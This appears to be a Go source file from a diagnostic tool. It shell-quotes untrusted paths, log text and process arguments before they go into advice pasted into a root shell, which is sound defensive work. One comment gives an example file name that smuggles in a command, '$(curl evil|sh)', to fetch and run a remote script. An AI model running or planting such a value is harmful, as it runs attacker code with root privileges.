package diagnose

import (
	"cmp"
	"slices"
	"strings"

	"github.com/gatemend/gatemend/detect"
)

// pasteable makes every advice fit to be pasted into root's shell, where advice goes. What logs and
// processes name was chosen by whoever wrote them: a file called "/srv/$(curl evil|sh).py" must stay a
// file. Of all that is foreign in the facts, what a shell would run, split or redirect is quoted
// wherever it stands in an advice; no rule has to think of it.
func pasteable(f detect.Facts, d *detect.Diagnosis) {
	var pairs []string
	for _, s := range active(f) {
		pairs = append(pairs, s, "'"+strings.ReplaceAll(s, "'", `'\''`)+"'")
	}
	if len(pairs) == 0 {
		return
	}
	quote := strings.NewReplacer(pairs...)
	for i := range d.Also {
		quoteAll(quote, d.Also[i].Advice)
	}
	quoteAll(quote, d.Primary.Advice)
}

func quoteAll(quote *strings.Replacer, advice []detect.Advice) {
	for i, a := range advice {
		advice[i].Text = detect.Clean(quote.Replace(a.Text))
	}
}

// active are the foreign texts that a shell would not take as one word or as prose, the longest first.
func active(f detect.Facts) (all []string) {
	add := func(texts ...string) {
		for _, s := range texts {
			s = strings.TrimPrefix(strings.TrimPrefix(s, "http://"), "unix:")
			path := strings.HasPrefix(s, "/") && strings.Trim(s, plainPath) != ""
			if path || strings.ContainsAny(s, "$`;|&<>") {
				all = append(all, s)
			}
		}
	}
	add(f.Route.Target.Address)
	if f.Path != nil {
		add(f.Path.Path)
	}
	for _, l := range f.Lines {
		add(l.Text, strings.TrimSpace(l.Text))
		for _, v := range l.Attr {
			add(v)
		}
	}
	for _, n := range f.Named {
		add(n.Name, n.Note)
	}
	for _, c := range f.Changes {
		add(c.Name, c.Before, c.After)
	}
	processes := slices.Concat(f.Processes, f.Strays)
	for _, l := range f.Listeners {
		processes = append(processes, l.Owners...)
	}
	for _, p := range processes {
		add(p.Comm, strings.Join(p.Args, " "))
		add(p.Args...)
	}
	slices.SortFunc(all, func(a, b string) int { return cmp.Or(len(b)-len(a), strings.Compare(a, b)) })
	return slices.Compact(all)
}

// plainPath is what a path may hold and still be one word to a shell.
const plainPath = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-=./:@+,%~"
